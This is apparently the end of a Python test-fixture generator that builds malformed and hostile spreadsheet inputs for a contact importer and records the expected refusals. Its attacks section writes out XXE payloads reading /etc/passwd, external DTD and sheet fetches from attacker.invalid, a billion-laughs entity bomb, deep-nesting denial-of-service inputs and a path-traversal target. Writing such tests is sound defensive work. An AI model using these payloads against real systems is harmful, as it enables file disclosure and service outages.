    xml('external-entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + body.replace('李雷', '&e;'), refusal='Damaged')
    xml('external-doctype', '<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">' + body, refusal='Damaged')
    laughs = ''.join('<!ENTITY l%d "%s">' % (i + 1, ('&l%d;' % i) * 10) for i in range(9))
    xml('billion-laughs', '<!DOCTYPE x [<!ENTITY l0 "ha">%s]>%s' % (laughs, body.replace('李雷', '&l9;')), refusal='Damaged')
    xml('unknown-entity', body.replace('李雷', '&nosuch;'), refusal='Damaged')
    xml('many-attributes', body.replace('<sheetData>', '<sheetData %s>' % ' '.join('a%d=">"' % i for i in range(200_000))),
        refusal='Damaged')
    xml('deep', body.replace('<sheetData>', '<a>' * 3_000_000), refusal='Damaged')
    xml('deep-in-cell', body.replace('<is>', '<is>' + '<a>' * 1_000_000, 1), refusal='Damaged')
    xml('long-name', body.replace('<sheetData>', '<%s/><sheetData>' % ('a' * 5_000_000)), refusal='Damaged')
    xml('not-xml', 'Name,Phone', refusal='Damaged')
    xml('cut-off', body[:len(body) // 2], refusal='Damaged')
    xml('null', body.replace('李雷', '李\0雷'), refusal='Damaged')
    xml('null-reference', body.replace('李雷', '李&#0;雷'), refusal='Damaged')
    xml('broken-utf-8', (DECLARATION + body).encode().replace('李雷'.encode(), b'\xe6\x9d'), refusal='Damaged')
    xml('says-it-is-gbk', ('<?xml version="1.0" encoding="GBK"?>' + body).encode(), people=PEOPLE)
    xml('comment', body.replace('<sheetData>', '<!-- <!DOCTYPE x> <c r="A1"> --><sheetData>'), people=PEOPLE)
    xml('empty', b'', refusal='Damaged')
    xml('negative-row', body.replace('<row r="2">', '<row r="-2">'), refusal='Damaged')
    xml('row-zero', body.replace('r="A2"', 'r="A0"'), refusal='Damaged')
    xml('huge-row', body.replace('r="A2"', 'r="A99999999999"'), refusal='Damaged')
    xml('huge-column', body.replace('r="A2"', 'r="ZZZZZZZZ2"'), refusal='Damaged')
    xml('no-such-string', body.replace('t="inlineStr"><is><t>李雷</t></is>', 't="s"><v>4000000000</v>'), refusal='Damaged')
    xml('negative-string', body.replace('t="inlineStr"><is><t>李雷</t></is>', 't="s"><v>-1</v>'), refusal='Damaged')
    xml('merged-all', body.replace('</sheetData>', '</sheetData><mergeCells><mergeCell ref="F1:XFD1048576"/></mergeCells>'), people=PEOPLE)
    xml('merged-often', body.replace('</sheetData>', '</sheetData><mergeCells>%s</mergeCells>' % (
        '<mergeCell ref="A1:XFD1048576"/>' * 200_000)), refusal='Damaged')
    xml('merged-nonsense', body.replace('</sheetData>', '</sheetData><mergeCells><mergeCell ref="x"/></mergeCells>'), refusal='Damaged')
    huge = '9' * 300 + 'E+999'
    xml('huge-number', sheet_of([ZH, [*spoken(LI, 'zh')[:4], number(huge)]]), people=[[*LI[:4], '']],
        refused=[[0, 'PMContactInfo', 'TooLong']])
    xml('huge-exponent', sheet_of([ZH, [*spoken(LI, 'zh')[:4], number('1E+999')]]), people=[[*LI[:4], '']],
        refused=[[0, 'PMContactInfo', 'TooLong']])
    file('no-sheet-part.xlsx', packed({k: v for k, v in parts_of(sheet_of(rows)).items() if k != part}), refusal='Damaged')
    file('no-workbook.xlsx', packed({k: v for k, v in parts_of(sheet_of(rows)).items() if k != 'xl/workbook.xml'}), refusal='Damaged')
    file('path-outside.xlsx', with_part('xl/_rels/workbook.xml.rels', relations(
        [('rId1', 'worksheet', '../../../../../../etc/passwd')])), refusal='Damaged')
    file('external-sheet.xlsx', with_part('xl/_rels/workbook.xml.rels', relations(
        [('rId1', 'worksheet', 'http://attacker.invalid/sheet.xml')]).replace('/>', ' TargetMode="External"/>', 1)), refusal='Empty')
    file('sheet-is-the-workbook.xlsx', with_part('xl/_rels/workbook.xml.rels', relations(
        [('rId1', 'worksheet', 'workbook.xml')])), refusal='Empty')


encodings()
orders()
shapes()
cells_in_text()
workbooks()
cells_in_workbooks()
other_formats()
attacks()
with open(os.path.join(folder, 'manifest.json'), 'w', encoding='utf-8') as out:
    json.dump(manifest, out, ensure_ascii=False)
